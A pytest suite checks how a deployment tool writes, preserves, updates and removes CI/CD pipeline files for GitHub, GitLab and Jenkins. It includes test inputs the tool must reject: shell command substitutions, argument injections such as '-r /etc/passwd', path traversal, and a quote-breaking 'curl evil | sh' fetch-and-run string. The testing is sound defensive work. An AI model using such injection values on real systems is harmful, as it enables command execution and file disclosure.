"""Where a pipeline's file goes, beside existing files; that it comes and goes without a trace; and bad input."""

from __future__ import annotations

import contextlib
import hashlib
import itertools
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.version import Version

if sys.version_info >= (3, 11):
    import tomllib
else:
    import tomli as tomllib

from dagster_module_builder.audit.audited_module import AuditedModule
from dagster_module_builder.audit.deployments import pipelines
from dagster_module_builder.base.errors import BuilderError, RefusedError, UsageError
from dagster_module_builder.deploy import pipeline
from dagster_module_builder.deploy.check import local_problems_of
from dagster_module_builder.deploy.configure import configure
from dagster_module_builder.deploy.job_summary import write_summary
from dagster_module_builder.deploy.model.deployment import Deployment, read_deployment
from dagster_module_builder.deploy.pipeline_companions import companions
from dagster_module_builder.deploy.pipelines.description import describe
from dagster_module_builder.deploy.pipelines.github import CHECKOUT
from dagster_module_builder.deploy.pipelines.tool import Installed, from_origin, lock_of
from dagster_module_builder.deploy.questions import questionnaire
from dagster_module_builder.deploy.rollout import HostOutcome
from dagster_module_builder.deploy.strategies.base import load_steps
from dagster_module_builder.deploy.strategies.images import credentials
from dagster_module_builder.transactions.module_files import commit
from tests.deploy import jenkinsfiles
from tests.deploy.modules import make_module
from tests.deploy.pipeline_input import BREAKS_OUT, declared
from tests.deploy.program import run
from tests.deploy.registry_logins import LOGINS
from tests.deploy.repositories import git

REPOSITORY = Path(__file__).parents[2]
PLATFORMS = ("github", "gitlab", "jenkins")
FILES = {"github": ".github/workflows/deploy-yoda.yml", "gitlab": ".gitlab-ci.yml", "jenkins": "Jenkinsfile"}
TOOL = "dagster-module-builder==0.1.0"
ANSWERS = {"deployment": "yoda", "client": "Yoda", "hosts": "yoda.example", "tool": TOOL}


@pytest.fixture
def module(tmp_path: Path) -> Path:
    return make_module(tmp_path)


def configured(module: Path, platform: str = "gitlab", **answers: str) -> Deployment:
    root = module.parent.parent
    return read_deployment(configure(root, module, "ci-cd", {**ANSWERS, "platform": platform, **answers}).folder)


def made(module: Path, platform: str = "gitlab", **own: Any) -> Deployment:
    """Make a deployment as ``configured`` does, without the templates, which take a second."""
    deployment = declared(module, platform, **own)
    write(deployment)
    for beside in companions(pipeline.find(deployment)):
        commit(beside)
    return deployment


def write(deployment: Deployment, **options: bool) -> bytes | None:
    change = pipeline.planned(deployment, **options)
    commit(change)
    return change.after


def change_settings(deployment: Deployment, **own: Any) -> Deployment:
    path = deployment.folder / "deployment.yaml"
    data = yaml.safe_load(path.read_text())
    data["ci-cd"].update(own)
    path.write_text(yaml.safe_dump(data))
    return read_deployment(deployment.folder)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_comes_changes_and_goes(module: Path, platform: str) -> None:
    deployment = made(module, platform)
    path = module / FILES[platform]
    first = path.read_bytes()
    assert pipeline.problem(deployment) is None
    assert write(deployment) == first
    deployment = change_settings(deployment, branch="stable")
    assert "is older than" in str(pipeline.problem(deployment))
    assert b"stable" in (write(deployment) or b"")
    assert write(change_settings(deployment, branch="main")) == first
    assert write(deployment, remove=True) is None
    assert not path.exists()
    assert "is missing" in str(pipeline.problem(deployment))


OTHERS = [
    b"stages: [build, test, deploy]\n\nlint:\n  script: [ruff check]\n",
    b"lint:\n  stage: test\n  script:\n    - |\n      # BEGIN: not_a_block\n      echo x\n# the end\n",
    b"lint:\n  script: [ruff check]",
    b"include:\r\n  - local: other.yml\r\nlint:\r\n  script: [a]\r\n",
    b"# nothing but a comment\n",
    b"---\nspec:\n  inputs: {}\n"[:4] + b"x: !reference [.y, script]\n",
    b"",
]


@pytest.mark.parametrize("others", OTHERS)
def test_jobs_of_others_stay_byte_for_byte(module: Path, others: bytes) -> None:
    path = module / ".gitlab-ci.yml"
    path.write_bytes(others)
    deployment = made(module)
    assert path.read_bytes().startswith(others)
    text = path.read_text().replace("!reference", "")
    assert {"sales-report-yoda deploy", "sales-report-yoda rollback"} <= set(yaml.safe_load(text))
    before = path.read_bytes()
    assert write(deployment) == before
    assert (write(deployment, remove=True) or b"") == others


def test_two_modules_in_one_file_in_any_order(tmp_path: Path, module: Path) -> None:
    git(tmp_path, "init", "-q")
    others = b"lint:\n  script: [ruff check]"
    for first_out, second_out in itertools.permutations((0, 1)):
        (tmp_path / ".gitlab-ci.yml").write_bytes(others)
        stock = tmp_path / "projects/stock"
        both = [made(module), made(stock if stock.exists() else make_module(tmp_path, "stock"))]
        jobs = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())
        assert {"lint", "sales-report-yoda deploy", "stock-yoda deploy"} <= set(jobs)
        write(both[first_out], remove=True)
        assert pipeline.problem(both[second_out]) is None
        assert write(both[second_out], remove=True) == others
        for one in both:
            subprocess.run(["rm", "-r", one.folder], check=True)


@pytest.mark.parametrize(
    ("stages", "expected"),
    [
        ("[build, test, deploy]", ("test", "deploy")),
        ("[lint, ship]", ("lint", "ship")),
        ("[deploy, test]", ("test", "test")),
        ("[]", ("test", "deploy")),
    ],
)
def test_stages_are_those_that_there_are(module: Path, stages: str, expected: tuple[str, str]) -> None:
    (module / ".gitlab-ci.yml").write_text(f"stages: {stages}\nx:\n  script: [a]\n  stage: {expected[0]}\n")
    made(module)
    jobs = yaml.safe_load((module / ".gitlab-ci.yml").read_text())
    assert (jobs["sales-report-yoda test"]["stage"], jobs[".sales-report-yoda on the hosts"]["stage"]) == expected


@pytest.mark.parametrize(
    ("pattern", "tag", "fits"),
    [
        ("v*", "v1.2.3", True),
        ("v*", "xv1", False),
        ("v*", "v1/2", False),
        ("v1.*", "v1x0", False),
        ("sales/v*", "sales/v1", True),
        ("*", "anything", True),
    ],
)
def test_tags_that_fit(module: Path, pattern: str, tag: str, fits: bool) -> None:
    made(module, trigger="tag", tag=pattern)
    (rule,) = yaml.safe_load((module / ".gitlab-ci.yml").read_text())["sales-report-yoda test"]["rules"]
    expression = re.fullmatch(r"\$CI_COMMIT_TAG =~ /(.*)/", rule["if"])
    assert expression is not None
    assert (re.search(expression[1], tag) is not None) is fits


@pytest.mark.parametrize("platform", PLATFORMS)
def test_edits_are_neither_lost_nor_overwritten(module: Path, platform: str) -> None:
    deployment = made(module, platform)
    path = module / FILES[platform]
    edited = path.read_text().replace(" --wait 900", " --wait 900 --drain")
    path.write_text(edited)
    for options in ({}, {"remove": True}):
        with pytest.raises(RefusedError, match="edited by hand"):
            write(deployment, **options)
    assert path.read_text() == edited
    assert "edited by hand" in str(pipeline.problem(deployment))
    write(deployment, force=True)
    assert "--drain" not in path.read_text()


def test_jobs_added_to_a_workflow_stay(module: Path) -> None:
    deployment = made(module, "github")
    path = module / FILES["github"]
    added = b"\n  tell:\n    runs-on: ubuntu-24.04\n    steps: [{run: echo done}]\n"
    path.write_bytes(path.read_bytes() + added)
    assert (write(change_settings(deployment, branch="stable")) or b"").endswith(added)
    assert "tell" in yaml.safe_load(path.read_text())["jobs"]


@pytest.mark.parametrize(
    ("platform", "beside"),
    [("github", ".github/workflows/deploy-yoda-sales-report.yml"), ("jenkins", "Jenkinsfile.yoda")],
)
def test_files_of_others_are_left_alone(module: Path, platform: str, beside: str) -> None:
    path = module / FILES[platform]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("another person's\n")
    deployment = made(module, platform)
    assert path.read_text() == "another person's\n"
    assert pipeline.find(deployment).path == module / beside
    path.unlink()
    assert pipeline.find(deployment).path == module / beside


def test_no_place_leaves_no_deployment(module: Path) -> None:
    for place in ("deploy-yoda.yml", "deploy-yoda-sales-report.yml"):
        (module / ".github/workflows").mkdir(parents=True, exist_ok=True)
        (module / ".github/workflows" / place).write_text("another person's\n")
    with pytest.raises(RefusedError, match="are in use by something else"):
        configured(module, "github")
    assert not (module / "deploy").exists()


@pytest.mark.parametrize(
    "text", ["- a\n- b\n", "{a: 1}\n", "a: [\n", "  a: 1\n  b: 2\n", "'sales-report-yoda deploy': {}\n", "# BEGIN: x\n"]
)
def test_files_that_cannot_be_edited_are_refused(module: Path, text: str) -> None:
    (module / ".gitlab-ci.yml").write_text(text)
    with pytest.raises(BuilderError):
        made(module)
    assert (module / ".gitlab-ci.yml").read_text() == text


@pytest.mark.parametrize(
    "answers",
    [
        {"platform": "travis"},
        {"platform": "GitHub"},
        {"carries_out": "ci-cd"},
        {"carries_out": "tar"},
        {"carries_out": "$(touch oops)"},
        {"platform": "github\n"},
        {"platform": "-x"},
        {"trigger": "never"},
        {"trigger": "push\n"},
        {"trigger": "-x"},
        {"trigger": "push", "trigger_branch": "-x"},
        {"trigger": "tag", "trigger_tag": "v*' || true"},
        {"trigger": "tag", "trigger_tag": "--force"},
        {"runner": "-x"},
        {"runner": "a b: c"},
        {"runner": "$(touch oops)"},
        {"trigger": "tag", "trigger_tag": "v*\n"},
        {"tool": "-r /etc/passwd"},
        {"tool": "dagster-module-builder"},
        {"tool": "dagster-module-builder @ git+ssh://git@example.org/x@abc"},
        {"tool": "git+file:///srv/x@abc"},
        {"tool": "$(touch oops)"},
        {"deployment": "../yoda"},
        {"trigger_branch": "main\njobs: {}"},
        {"tool": "x'; curl evil | sh; '"},
    ],
)
def test_bad_answers_leave_nothing(module: Path, answers: dict[str, str]) -> None:
    before = sorted(module.rglob("*"))
    with pytest.raises((UsageError, RefusedError)):
        configured(module, **{"platform": "github", **answers})
    assert sorted(module.rglob("*")) == before


#: Texts that YAML takes for something else where they are not quoted.
READS_AS_OTHER = [
    "true",
    "null",
    "1e3",
    "0x1f",
    "2026-01-01",
    "12:30:45",
    "x:",
    "on",
    "~",
    "*x",
    "&x",
    "!x",
    "@x",
    "a # b",
    "a: b",
]
HOSTILE = {
    "github": ("branch", "tool", "runner", "environment", "tests"),
    "gitlab": ("branch", "tool", "runner", "environment", "image", "tests"),
    "jenkins": ("branch", "tool", "runner", "approvers", "tests"),
}


@pytest.mark.parametrize("platform", PLATFORMS)
def test_hostile_values_are_refused_or_arrive_as_they_are(module: Path, platform: str) -> None:
    taken = []
    plain = ["good", "x==1"] if platform == "jenkins" else [*READS_AS_OTHER, "x==1 # a"]
    for key, value in itertools.product(HOSTILE[platform], [*BREAKS_OUT, *plain]):
        with contextlib.suppress(BuilderError):
            deployment = declared(module, platform, **{key: [value] if key == "tests" else value})
            taken.append((key, value, (pipeline.planned(deployment).after or b"").decode()))
        shutil.rmtree(module / "deploy")
    assert [(key, value) for key, value, _ in taken if key != "tests" and value in BREAKS_OUT] == []
    assert {key for key, _, _ in taken} == set(HOSTILE[platform])
    arrived = ARRIVED[platform]([text for _, _, text in taken])
    for (key, value, _), there in zip(taken, arrived, strict=True):
        assert there[key] == value, (key, value)


@pytest.mark.parametrize("key", ["platform", "trigger", "carries_out", "tag"])
def test_hostile_choices_are_refused(module: Path, key: str) -> None:
    fine = {"platform": "github", "trigger": "tag", "carries_out": "git", "tag": "v*"}
    for value in [*BREAKS_OUT, "", "ci-cd ", f"{fine[key]}\n"]:
        with pytest.raises(BuilderError):
            declared(module, **{**fine, key: value})
        shutil.rmtree(module / "deploy")


def _in_workflows(texts: list[str]) -> Iterator[dict[str, str]]:
    for text in texts:
        workflow = yaml.safe_load(text)
        test, deploy = workflow["jobs"]["test"], workflow["jobs"]["deploy"]
        (branch,) = workflow[True]["push"]["branches"]
        assert deploy["if"] == f"github.ref == 'refs/heads/{branch}' && inputs.action != 'rollback'"
        yield {
            "branch": branch, "runner": deploy["runs-on"], "environment": deploy["environment"]["name"],
            "tool": deploy["steps"][2]["env"]["TOOL"], "tests": test["steps"][-1]["run"].splitlines()[-1],
        }  # fmt: skip


def _in_gitlab(texts: list[str]) -> Iterator[dict[str, str]]:
    for text in texts:
        jobs = yaml.safe_load(text)
        every, hosts = jobs[".sales-report-yoda"], jobs[".sales-report-yoda on the hosts"]
        test = jobs["sales-report-yoda test"]
        yield {
            "image": every["image"], "runner": every.get("tags", [""])[0],
            "environment": hosts["environment"]["name"], "tool": every["variables"]["TOOL"],
            "tests": test["script"][0].splitlines()[-1],
            "branch": test["rules"][0]["if"].removeprefix('$CI_COMMIT_BRANCH == "').partition('"')[0],
        }  # fmt: skip


def _in_jenkinsfiles(texts: list[str]) -> Iterator[dict[str, str]]:
    for words in jenkinsfiles.read(*texts):
        assert jenkinsfiles.problems(words) == []
        test, deploy, _ = jenkinsfiles.within(words[0], "stages")
        (shell,) = (one for one in jenkinsfiles.within(test, "steps") if one["name"] == "sh")
        asked = {one["name"]: one["given"][0] for one in jenkinsfiles.within(deploy, "input")}
        yield {
            "branch": next(one["given"][0] for one in jenkinsfiles.within(deploy, "when") if one["name"] == "branch"),
            "runner": next((one["given"][0] for one in jenkinsfiles.within(deploy, "agent")), ""),
            "tool": jenkinsfiles.within(deploy, "environment")[0]["value"],
            "approvers": asked.get("submitter", ""),
            "tests": shell["given"][0].rstrip().splitlines()[-1].removeprefix(" " * 20),
        }


ARRIVED = {"github": _in_workflows, "gitlab": _in_gitlab, "jenkins": _in_jenkinsfiles}


def test_a_workflow_has_few_rights_and_no_expression_in_its_shell_lines(module: Path) -> None:
    made(module, "github")
    workflow = yaml.safe_load((module / FILES["github"]).read_text())
    jobs = workflow["jobs"]
    assert workflow["permissions"] == {}
    assert [job["permissions"] for job in jobs.values()] == [{"contents": "read"}] * 3
    steps = [step for job in jobs.values() for step in job["steps"]]
    assert [one["with"]["persist-credentials"] for one in steps if "checkout" in one.get("uses", "")] == [False] * 3
    assert [one["run"] for one in steps if "${{" in one.get("run", "")] == []
    secrets = {name for name, job in jobs.items() if "secrets." in json.dumps(job)}
    assert secrets == {name for name, job in jobs.items() if job.get("environment")} == {"deploy", "rollback"}
    groups = [jobs[name]["concurrency"] for name in ("deploy", "rollback")]
    assert groups == [{"group": "deploy-sales-report-yoda", "cancel-in-progress": False}] * 2


def test_a_workflow_can_be_called_by_another_as_a_person_starts_it(module: Path) -> None:
    made(module, "github", trigger="manual")
    on = yaml.safe_load((module / FILES["github"]).read_text())[True]
    given = {kind: {name: one["default"] for name, one in on[kind]["inputs"].items()} for kind in on}
    assert given == {kind: {"action": "deploy", "release": ""} for kind in ("workflow_dispatch", "workflow_call")}


#: By name: the registry of a docker deployment, and the kind of login.
PUSHED_TO = {
    "none": ("none", None),
    "a password": ("registry.example:5000", None),
    "GitHub": ("ghcr.io", None),
    **{kind: (registry, kind) for kind, (registry, _) in LOGINS.items()},
}


@pytest.mark.parametrize("pushed", PUSHED_TO)
def test_a_called_workflow_has_every_secret_that_its_jobs_read(module: Path, pushed: str) -> None:
    """FAULTS P5: GitHub gives a called workflow those secrets alone that it declares and its caller names.

    https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows
    """
    registry, kind = PUSHED_TO[pushed]
    deployment = with_login(module, kind or "aws", registry=registry)
    if kind is None:
        deployment = change_settings(deployment, registry_login=None)
    text = (write(deployment) or b"").decode()
    declared_secrets = yaml.safe_load(text)[True]["workflow_call"]["secrets"]
    assert set(re.findall(r"secrets\.(\w+)", text)) == set(declared_secrets)
    # A host without a registry, or that logs in by itself, needs none of the others.
    assert [one["required"] for one in declared_secrets.values()] == [False] * len(declared_secrets)


def test_gitlab_has_one_at_a_time_and_cancels_none(module: Path) -> None:
    made(module)
    jobs = yaml.safe_load((module / FILES["gitlab"]).read_text())
    hosts = jobs[".sales-report-yoda on the hosts"]
    assert (hosts["resource_group"], hosts["interruptible"]) == ("sales-report-yoda", False)
    for name in ("deploy", "rollback"):
        job = jobs[f"sales-report-yoda {name}"]
        assert job["extends"] == ".sales-report-yoda on the hosts"
        assert [rule["when"] for rule in job["rules"]] == ["manual"] * len(job["rules"])
        assert not {"resource_group", "interruptible", "environment"} & set(job)


def test_jenkins_has_one_at_a_time_and_cancels_only_what_is_not_approved(module: Path) -> None:
    made(module, "jenkins")
    ((whole,),) = jenkinsfiles.read((module / FILES["jenkins"]).read_text())
    options = {one["name"]: one["given"] for one in jenkinsfiles.within(whole, "options")}
    assert options["disableConcurrentBuilds"] == []
    assert options["timeout"] == [{"time": 1, "unit": "DAYS", "activity": True}]
    test, *others = jenkinsfiles.within(whole, "stages")
    assert [bool(jenkinsfiles.within(stage, "input")) for stage in (test, *others)] == [False, True, True]
    for stage in others:
        assert jenkinsfiles.within(stage, "options") == []
        before = {one["name"]: one["given"] for one in jenkinsfiles.within(stage, "when")}
        assert (before["beforeInput"], before["beforeAgent"]) == ([True], [True])


@pytest.mark.parametrize("folder", ["a 'b' $(touch oops)", "-rf"])
def test_odd_folders_are_refused(tmp_path: Path, folder: str) -> None:
    git(tmp_path, "init", "-q")
    module = make_module(tmp_path / folder)
    with pytest.raises(RefusedError, match="letters, digits"):
        made(module)


@pytest.mark.parametrize(("platform", "carried"), [("github", "git"), ("gitlab", "rsync"), ("jenkins", "docker")])
def test_whatever_it_carries_out(module: Path, platform: str, carried: str) -> None:
    deployment = configured(module, platform, carries_out=carried)
    assert (deployment.strategy, deployment.data["strategy"]) == (carried, "ci-cd")
    assert set(deployment.own) <= {one.name for one in questionnaire(carried)} | {"path"}
    guide = (deployment.folder / "DEPLOYMENT.md").read_text()
    assert "DEPLOY_SSH_KEY" in guide
    assert "### By hand" in guide
    assert "{{" not in guide
    assert "cookiecutter" not in guide
    assert (deployment.folder / ".env.deploy").stat().st_mode & 0o777 == 0o600


def test_questions_that_both_ask_in_different_words(module: Path) -> None:
    names = [one.name for one in questionnaire("ci-cd", "docker")]
    assert len(names) == len(set(names))
    assert {"platform", "docker_platform", "registry"} <= set(names)
    deployment = configured(
        module, "github", carries_out="docker", docker_platform="linux/arm64", registry="r.example:5000"
    )
    assert deployment.own["platform"] == "linux/arm64"
    assert "DEPLOY_REGISTRY_PASSWORD: ${{ secrets.DEPLOY_REGISTRY_PASSWORD }}" in (module / FILES["github"]).read_text()


def test_actions_are_at_least_as_new_as_in_the_modules() -> None:
    (template,) = REPOSITORY.glob("cookiecutter-dagster-module/*/.github/workflows/ci.yml")
    (pinned,) = re.findall(r"actions/checkout@[0-9a-f]{40} # v([\d.]+)", template.read_text())
    assert Version(CHECKOUT.rpartition("# v")[2]) >= Version(pinned)


def test_what_is_in_its_way_is_told(module: Path) -> None:
    git(module, "init", "-q")
    deployment = made(module)
    said = "\n".join(local_problems_of(deployment))
    for name in (".gitlab-ci.yml", "deploy/yoda/deployment.yaml", "deploy/yoda/known_hosts", "deploy/yoda/tool.lock"):
        assert f"{name} is not committed" in said
    assert "deploy.trust yoda" in said
    deployment.known_hosts.write_text("yoda.example ssh-ed25519 AAAA\n")
    git(module, "add", "-A")
    git(module, "commit", "-qm", "x")
    assert "pipeline" not in "\n".join(local_problems_of(deployment))


def test_audit_knows_pipelines(module: Path) -> None:
    deployment = made(module)
    audited = AuditedModule(module, module.parent.parent)
    assert list(pipelines(audited)) == []
    change_settings(deployment, trigger="manual")
    (found,) = pipelines(audited)
    assert "is older than" in found.message
    (module / ".gitlab-ci.yml").unlink()
    (found,) = pipelines(audited)
    assert "is missing" in found.message


def test_from_the_command_line(tmp_path: Path, module: Path) -> None:
    flags = ["--deployment", "yoda", "--client", "Yoda", "--hosts", "yoda.example", "--strategy", "ci-cd"]
    answers = [
        part
        for one in ("platform=gitlab", "carries_out=rsync", "exclude=notes", f"tool={TOOL}")
        for part in ("--set", one)
    ]
    said = run(tmp_path, "configure-deployment", "sales-report", *flags, *answers)
    assert said.returncode == 0, said
    assert str(module / ".gitlab-ci.yml") in said.stdout
    (listed,) = json.loads(run(tmp_path, "deploy.list", "--json").stdout)
    assert (listed["strategy"], listed["carries out"]) == ("ci-cd", "rsync")
    for refused in (["--allow-dirty"], ["--allow-dirty", "--dry-run"]):
        said = run(tmp_path, "deploy", "yoda", *refused)
        assert said.returncode == 1
        assert "GitLab CI/CD on a push to main (.gitlab-ci.yml)" in said.stderr
        assert "--local" in said.stderr
    local = run(tmp_path, "deploy", "yoda", "--allow-dirty", "--local")
    assert "--local" not in local.stderr
    assert "up to date" in run(tmp_path, "deploy.pipeline", "yoda").stdout
    assert json.loads(run(tmp_path, "deploy.pipeline", "yoda", "--json").stdout)
    assert "-# END: sales_report__yoda" in run(tmp_path, "deploy.pipeline", "yoda", "--remove", "--dry-run").stdout
    assert "removed" in run(tmp_path, "deploy.pipeline", "yoda", "--remove").stdout
    assert not (module / ".gitlab-ci.yml").exists()
    said = run(tmp_path, "configure-deployment", "sales-report", *flags, "--set", "colour=blue")
    assert said.returncode == 2


def test_each_guide_names_the_file_that_was_written(tmp_path: Path) -> None:
    """FAULTS P2: with several modules in a repository, each guide starts its own module's pipeline."""
    git(tmp_path, "init", "-q")
    expected = {"github": r"gh workflow run (\S+)", "jenkins": "Script Path: `([^`]+)`"}
    for platform, pattern in expected.items():
        named = []
        for name in ("sales-report", "stock"):
            deployment = configured(make_module(tmp_path / platform, name), platform)
            path = pipeline.find(deployment).path
            guide = (deployment.folder / "DEPLOYMENT.md").read_text()
            assert set(re.findall(pattern, guide)) == {path.name}
            named.append(path.name)
        assert len(set(named)) == 2


def test_each_guide_has_the_names_of_the_description(tmp_path: Path) -> None:
    """FAULTS P2: secrets, credentials and environments are called in the guide as in the pipeline, also later."""
    for platform in PLATFORMS:
        deployment = configured(make_module(tmp_path / platform), platform, carries_out="docker", registry="r.example")
        pipelined = describe(deployment, ".")
        guide = deployment.folder / "DEPLOYMENT.md"
        table = re.findall(r"^   \| (`.*?`) \|", guide.read_text(), re.MULTILINE)
        wanted = pipelined.credentials.values() if platform == "jenkins" else pipelined.secrets
        assert re.findall("`(.*?)`", " ".join(table)) == list(wanted)
        if platform != "jenkins":
            changed = change_settings(deployment, environment="client-x")
            run(tmp_path / platform, "deploy.pipeline", "yoda")
            assert pipeline.problem(changed) is None
            assert len(re.findall("(?:--env |--scope |environment `)client-x", guide.read_text())) == 7


def test_a_guide_of_an_earlier_version_is_told_and_corrected(tmp_path: Path, module: Path) -> None:
    """FAULTS P2: a guide that names another module's pipeline is found, and corrected."""
    git(tmp_path, "init", "-q")
    made(make_module(tmp_path, "stock"), "github")
    deployment = made(module, "github")
    guide = deployment.folder / "DEPLOYMENT.md"
    guide.write_text("Mine: deploy-yoda.yml.\n\n    gh workflow run deploy-yoda.yml -f action=rollback\n")
    assert "is out of date with .github/workflows/deploy-yoda-sales-report.yml" in str(pipeline.problem(deployment))
    assert run(tmp_path, "deploy.pipeline", "yoda").returncode == 0
    corrected = "Mine: deploy-yoda.yml.\n\n    gh workflow run deploy-yoda-sales-report.yml -f action=rollback\n"
    assert guide.read_text() == corrected
    assert pipeline.problem(deployment) is None


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_pipeline_of_a_deleted_deployment_is_named_and_removable(
    tmp_path: Path, module: Path, platform: str
) -> None:
    """FAULTS P8: a pipeline without its deployment would go on deploying; audit names it, ``--remove`` finds it."""
    git(tmp_path, "init", "-q")
    kept = made(make_module(tmp_path, "stock"), platform)
    kept_place = pipeline.find(kept).path
    made(module, platform)
    (module / "deploy/yoda").rename(module / "deploy/leia")
    audited = AuditedModule(module, tmp_path)
    (found,) = pipelines(audited)
    assert "still deploys sales-report to 'yoda'" in found.message
    assert found.fix == "Run 'deploy.pipeline yoda --module sales-report --remove'"
    said = run(tmp_path, "deploy.pipeline", "yoda", "--module", "sales-report", "--remove")
    assert (said.returncode, "removed" in said.stdout or "written" in said.stdout) == (0, True), said
    assert list(pipelines(audited)) == []
    assert pipeline.find(kept).path == kept_place
    assert pipeline.problem(kept) is None


def test_the_pipeline_of_a_deleted_module_is_named_by_its_neighbours(tmp_path: Path, module: Path) -> None:
    """FAULTS P8: who audits or deploys another module of the repository learns of it."""
    git(tmp_path, "init", "-q")
    stock = made(make_module(tmp_path, "stock"), "gitlab")
    made(module, "gitlab")
    shutil.rmtree(module)
    (found,) = pipelines(AuditedModule(stock.module, tmp_path))
    assert "still deploys sales-report" in found.message
    assert "still deploys sales-report" in "\n".join(local_problems_of(stock))
    said = run(tmp_path, "deploy.pipeline", "yoda")
    assert "deploy.pipeline yoda --module sales-report --remove" in said.stderr


def test_a_deployment_that_changes_its_platform_leaves_no_second_pipeline(tmp_path: Path, module: Path) -> None:
    """FAULTS P8: two platforms that both deploy are one too many: ``deploy.pipeline`` takes the old file out."""
    git(tmp_path, "init", "-q")
    deployment = change_settings(made(module, "github"), platform="gitlab")
    old = tmp_path / FILES["github"]
    (tmp_path / ".gitlab-ci.yml").write_text("lint:\n  script: [a]\n")
    audited = AuditedModule(module, tmp_path)
    assert "is now .gitlab-ci.yml" in "\n".join(problem.message for problem in pipelines(audited))
    edited = old.read_bytes().replace(b" --wait 900", b" --wait 9")
    original = old.read_bytes()
    old.write_bytes(edited)
    assert "edited by hand" in run(tmp_path, "deploy.pipeline", "yoda").stderr
    assert (tmp_path / ".gitlab-ci.yml").read_text() == "lint:\n  script: [a]\n"
    old.write_bytes(original)
    assert run(tmp_path, "deploy.pipeline", "yoda").returncode == 0
    assert not old.exists()
    assert pipeline.problem(deployment) is None
    assert list(pipelines(audited)) == []


def test_the_branch_that_is_deployed_is_the_remotes_default_and_shown(tmp_path: Path, module: Path) -> None:
    """FAULTS P9: without ``origin/HEAD``, on a branch for a feature, the remote is asked."""
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "release/stable", remote.name)
    git(module, "init", "-q", "-b", "release/stable")
    git(module, "remote", "add", "origin", str(remote))
    git(module, "add", "-A")
    git(module, "commit", "-qm", "x")
    git(module, "push", "-q", "origin", "HEAD")
    git(module, "checkout", "-qb", "feature/ci")
    answers = [part for one in ("platform=github", "carries_out=git", f"tool={TOOL}") for part in ("--set", one)]
    flags = ["--deployment", "yoda", "--client", "Yoda", "--hosts", "yoda.example", "--strategy", "ci-cd"]
    said = run(tmp_path, "configure-deployment", "sales-report", *flags, *answers)
    assert "by GitHub Actions on a push to release/stable." in said.stdout, said
    assert f"installs {TOOL}." in said.stdout
    workflow = yaml.safe_load((module / FILES["github"]).read_text())
    assert workflow[True]["push"]["branches"] == ["release/stable"]


@pytest.mark.parametrize(
    ("branches", "has_remote", "expected"),
    [
        (["feature/ci"], True, "main"),
        (["master", "feature/ci"], True, "master"),
        (["production"], False, "production"),
        (["one", "feature/ci"], False, "main"),
    ],
)
def test_the_branch_that_stands_here_is_no_default(
    module: Path, branches: list[str], has_remote: bool, expected: str
) -> None:
    """FAULTS P9: where the remote does not answer, a branch for a feature is not taken."""
    git(module, "init", "-q", "-b", branches[0])
    git(module, "add", "-A")
    git(module, "commit", "-qm", "x")
    for branch in branches[1:]:
        git(module, "checkout", "-qb", branch)
    if has_remote:
        git(module, "remote", "add", "origin", str(module / "nowhere.git"))
    assert load_steps("ci-cd").questions_from(module).get("trigger_branch", "main") == expected


OLD_PIN = "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"


def test_a_bumped_action_is_no_edit_and_stays(module: Path) -> None:
    """FAULTS P10: after Dependabot the pipeline can be rewritten and removed, and keeps the newer action."""
    deployment = made(module, "github")
    path = module / FILES["github"]
    newer, older = f"{'a' * 40} # v123.0.1", f"{'b' * 40} # v1.2.3"
    bumped = re.sub(r"(actions/checkout@).*", rf"\g<1>{newer}", path.read_text())
    path.write_text(bumped)
    assert pipeline.problem(deployment) is None
    for force in (False, True):
        assert (write(deployment, force=force) or b"").decode() == bumped
    rewritten = (write(change_settings(deployment, branch="stable")) or b"").decode()
    assert re.findall(r"actions/checkout@(.*)", rewritten) == [newer] * 3
    path.write_text(rewritten.replace(newer, older))
    assert older not in (write(deployment) or b"").decode()
    path.write_text(path.read_text().replace(" # v", " # edited"))
    with pytest.raises(RefusedError, match="edited by hand"):
        write(deployment)


@pytest.mark.parametrize("pin", [OLD_PIN, f"{'a' * 40} # v123.0.1"])
def test_a_pipeline_of_an_earlier_version_is_known_with_its_action_bumped_or_not(module: Path, pin: str) -> None:
    """FAULTS P10: earlier versions hashed the pins too."""
    deployment = made(module, "github")
    path = module / FILES["github"]
    head, hashed, body = re.split(r"(?<=below: )([0-9a-f]{64})\n", path.read_text())
    lines = body.partition("# END")[0].splitlines(keepends=True)
    as_written = "".join(re.sub(r"(uses: actions/checkout@).*", rf"\g<1>{OLD_PIN}", line) for line in lines)
    earlier = hashlib.sha256(as_written.rstrip("\n").encode()).hexdigest()
    assert earlier != hashed
    old = f"{head}{earlier}\n{body}".replace(OLD_PIN, pin)
    path.write_text(re.sub(r"(uses: actions/checkout@).*", rf"\g<1>{pin}", old))
    assert "is older than" in str(pipeline.problem(deployment))
    assert pin in (write(deployment) or b"").decode() or pin == OLD_PIN
    assert pipeline.problem(deployment) is None


@pytest.mark.parametrize("trigger", ["push", "manual"])
def test_gitlab_has_a_rollback_job_in_every_pipeline_of_the_branch(tmp_path: Path, module: Path, trigger: str) -> None:
    """FAULTS P11: the guide sends a person to the newest pipeline, which another module's change may have started."""
    git(tmp_path, "init", "-q")
    made(module, trigger=trigger)
    jobs = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())
    always = {"if": '$CI_COMMIT_BRANCH == "main"', "when": "manual", "allow_failure": True}
    assert jobs["sales-report-yoda rollback"]["rules"] == [always]
    assert any("changes" in rule for rule in jobs["sales-report-yoda deploy"]["rules"]) is (trigger == "push")


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_pipeline_of_an_earlier_version_is_brought_along_in_one_step(
    tmp_path: Path, module: Path, platform: str
) -> None:
    """FAULTS P1: files as earlier versions wrote them are known as ours, told as old, and written again."""
    git(tmp_path, "init", "-q")
    deployment = declared(module, platform)
    path = tmp_path / FILES[platform]
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(Path(__file__).parent / "earlier_pipelines" / path.name, path)
    assert "is older than" in str(pipeline.problem(deployment))
    assert run(tmp_path, "deploy.pipeline", "yoda").returncode == 0
    assert pipeline.problem(deployment) is None
    assert "changeset" not in path.read_text()
